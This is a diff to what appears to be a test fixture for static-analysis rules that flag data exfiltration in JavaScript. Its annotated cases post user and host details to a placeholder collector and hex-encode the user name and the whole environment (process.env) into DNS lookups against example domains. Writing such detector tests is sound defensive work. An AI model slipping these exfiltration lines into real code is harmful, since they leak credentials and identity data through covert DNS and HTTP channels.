@@ -27,7 +27,12 @@ async function fingerprint() {
   // ruleid: js-host-info-to-network
   await fetch("https://collector.example/p", { method: "POST", body: JSON.stringify({ who, host }) });
   // ruleid: js-data-to-dns, js-dns-name-from-data, js-raw-network
-  dns.lookup(`${Buffer.from(who).toString("hex")}.x.example.net`, () => {});
+  dns.lookup(Buffer.from(who).toString("hex") + ".x.example.net", () => {});
+  // ruleid: js-data-to-dns
+  dns.resolveTxt(`${Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60)}.example.org`, () => {});
+  // ok: js-data-to-dns, js-dns-name-from-data
+  // ruleid: js-raw-network
+  dns.lookup(process.env.DB_HOST, () => {});
 }
 
 async function readHome() {
